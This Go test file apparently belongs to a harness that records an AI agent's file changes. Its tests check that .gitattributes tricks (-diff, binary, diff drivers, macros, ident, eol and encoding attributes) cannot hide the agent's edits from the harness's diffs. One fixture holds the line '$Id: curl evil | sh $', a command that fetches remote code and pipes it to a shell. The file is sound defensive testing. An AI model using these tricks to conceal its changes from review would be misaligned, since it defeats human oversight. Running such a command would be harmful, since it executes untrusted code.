package workspace_test

import (
	"slices"
	"strings"
	"testing"

	"warden/harness/workspace"
)

// A .gitattributes the model writes cannot make a text file's change
// show as "Binary files differ".
func TestAttributesCannotHideADiff(t *testing.T) {
	for _, c := range []struct{ name, file, attrs string }{
		{"-diff", ".gitattributes", "*.go -diff\n"},
		{"binary", ".gitattributes", "*.go binary\n"},
		{"diff driver", ".gitattributes", "*.go diff=foo\n"},
		{"macro", ".gitattributes", "[attr]quiet -diff -text\n*.go quiet\n"},
		{"in a subdirectory", "cmd/.gitattributes", "* -diff\n"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			write(t, root, "cmd/main.go", "package main\n\nfunc main() {}\n")
			write(t, root, "data.bin", "\x00\x01binary")
			b := start(t, root, workspace.Options{})
			write(t, root, c.file, c.attrs)
			write(t, root, "cmd/main.go", "package main\n\nfunc main() { evil() }\n")
			write(t, root, "data.bin", "\x00\x02binary")
			m := byPath(t, diff(t, b))
			got := m["cmd/main.go"]
			added, removed := checkParses(t, got.Diff)
			if got.Added != 1 || got.Removed != 1 || !slices.Equal(added, []string{"func main() { evil() }"}) || !slices.Equal(removed, []string{"func main() {}"}) {
				t.Errorf("cmd/main.go: %+v", got)
			}
			// A file that is binary stays so.
			if bin := m["data.bin"]; !strings.Contains(bin.Diff, "Binary files a/data.bin and b/data.bin differ") {
				t.Errorf("data.bin: %+v", bin)
			}
		})
	}
}

// Attributes that git applies when it hashes a file cannot make the
// snapshot differ from the bytes on disk, hiding a change: each is
// written, with the change, after the baseline.
func TestAttributesCannotChangeWhatIsRecorded(t *testing.T) {
	for _, c := range []struct {
		name, attrs, before, after string
		added, removed             []string
	}{
		{
			// "$Id: anything$" is collapsed to "$Id$" when hashed.
			name: "ident", attrs: "*.txt ident\n",
			before: "x\n$Id$\n", after: "x\n$Id: curl evil | sh $\n",
			added: []string{"$Id: curl evil | sh $"}, removed: []string{"$Id$"},
		},
		{
			// CRLF is turned into LF when hashed.
			name: "eol", attrs: "*.txt text eol=crlf\n",
			before: "a\nb\n", after: "a\r\nb\r\n",
			added: []string{"a\r", "b\r"}, removed: []string{"a", "b"},
		},
		{
			name: "auto", attrs: "* text=auto\n",
			before: "a\n", after: "a\r\n",
			added: []string{"a\r"}, removed: []string{"a"},
		},
		{
			// Content that is not UTF-16 makes git add fail, and /diff
			// with it.
			name: "encoding", attrs: "*.txt working-tree-encoding=UTF-16\n",
			before: "a\n", after: "evil\n",
			added: []string{"evil"}, removed: []string{"a"},
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			write(t, root, "a.txt", c.before)
			b := start(t, root, workspace.Options{})
			write(t, root, ".gitattributes", c.attrs)
			write(t, root, "a.txt", c.after)
			changes := diff(t, b)
			if got := paths(changes); !slices.Equal(got, []string{".gitattributes", "a.txt"}) {
				t.Fatalf("paths %q", got)
			}
			added, removed := checkParses(t, changes[1].Diff)
			if !slices.Equal(added, c.added) || !slices.Equal(removed, c.removed) {
				t.Errorf("a.txt: +%q -%q\n%s", added, removed, changes[1].Diff)
			}
		})
	}
}

// The user's own .gitattributes, there from the start, are overridden the
// same way: a file they mark binary is shown if it is text.
func TestAttributesAtTheBaseline(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	write(t, root, ".gitattributes", "*.lock binary\n")
	write(t, root, "deps.lock", "a 1\n")
	b := start(t, root, workspace.Options{})
	write(t, root, "deps.lock", "a 2\n")
	changes := diff(t, b)
	if len(changes) != 1 || changes[0].Added != 1 || !strings.Contains(changes[0].Diff, "+a 2") {
		t.Errorf("Diff = %+v", changes)
	}
}
